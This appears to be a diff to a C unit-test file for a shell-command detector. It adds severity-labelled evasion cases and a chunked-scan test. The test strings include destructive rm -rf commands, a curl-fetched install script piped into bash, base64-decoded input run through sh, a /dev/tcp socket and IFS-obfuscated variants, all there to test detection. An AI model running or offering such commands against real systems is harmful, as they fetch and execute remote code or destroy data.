@@ -398,6 +398,15 @@ static const struct evasion_case evasion_hits[] = {
 	{"rm -rf \"/root\"", "destructive_rm", CS_SEV_CRITICAL},
 	{"rm -rf build dist /etc", "destructive_rm", CS_SEV_CRITICAL},
 	{"rm${IFS}-rf${IFS}/", "destructive_rm", CS_SEV_CRITICAL},
+	{"docker run --rm alpine sh -c 'ls'", "shell_exec", CS_SEV_MEDIUM},
+	{"bash -c 'id'", "shell_exec", CS_SEV_MEDIUM},
+	{"sh${IFS}-c${IFS}id", "shell_exec", CS_SEV_MEDIUM},
+	{"bash -c \"$(curl -fsSL https://x/install.sh)\"", "shell_exec", CS_SEV_HIGH},
+	{"sh -c 'echo aWQ= | base64 -d | sh'", "shell_exec", CS_SEV_HIGH},
+	{"bash -c 'exec 3<>/dev/tcp/10.0.0.1/80'", "shell_exec", CS_SEV_HIGH},
+	{"sh -c $(echo hi)", "shell_exec", CS_SEV_HIGH},
+	{"sh -c 'wget -q http://x/a -O /tmp/a'", "shell_exec", CS_SEV_HIGH},
+	{"sh -c 'ls `id -u`'", "shell_exec", CS_SEV_HIGH},
 };
 
 static const char *const evasion_misses[] = {
@@ -442,6 +451,39 @@ static void test_evasions(void **state)
 	}
 	for (size_t i = 0; i < sizeof(evasion_misses) / sizeof(evasion_misses[0]); i++)
 		expect(IN, evasion_misses[i], NULL, NULL);
+}
+
+/*
+ * Plain and payload sh -c are two rules that exclude each other: wherever
+ * the stream is split, a command string gets exactly one finding with the
+ * severity of the whole string, never a medium one for its first half.
+ */
+static void test_shell_exec_severity_split(void **state)
+{
+	static const struct evasion_case cases[] = {
+		{"x=1; bash -c 'cd /srv && ls -la; echo aWQ= | base64 -d >/tmp/p' # end\n",
+		 "shell_exec", CS_SEV_HIGH},
+		{"x=1; bash -c 'cd /srv && ls -la; echo done' # curl later\n", "shell_exec",
+		 CS_SEV_MEDIUM},
+	};
+
+	(void)state;
+	for (size_t c = 0; c < sizeof(cases) / sizeof(cases[0]); c++) {
+		const char *t = cases[c].text;
+
+		for (size_t chunk = 1; chunk <= strlen(t); chunk++) {
+			struct eh_sink sink = {0};
+			struct cs_detector *d = eh_detector(&sink, 0);
+
+			assert_non_null(d);
+			eh_scan(d, IN, t, strlen(t), chunk);
+			if (sink.n != 1 || strcmp(sink.f[0].pattern, "shell_exec") != 0 ||
+			    sink.f[0].severity != cases[c].severity)
+				fail_msg("chunk %zu: %zu shell_exec finding(s), severity %d: %s",
+					 chunk, sink.n, sink.n ? (int)sink.f[0].severity : -1, t);
+			cs_detector_free(d);
+		}
+	}
 }
 
 /* Every family of the registry is exercised above, and every rule is well formed. */
@@ -542,6 +584,7 @@ int main(void)
 		cmocka_unit_test(test_private_key_near_misses),
 		cmocka_unit_test(test_plain_families),
 		cmocka_unit_test(test_evasions),
+		cmocka_unit_test(test_shell_exec_severity_split),
 		cmocka_unit_test(test_registry_table),
 		cmocka_unit_test(test_disable_and_override),
 	};
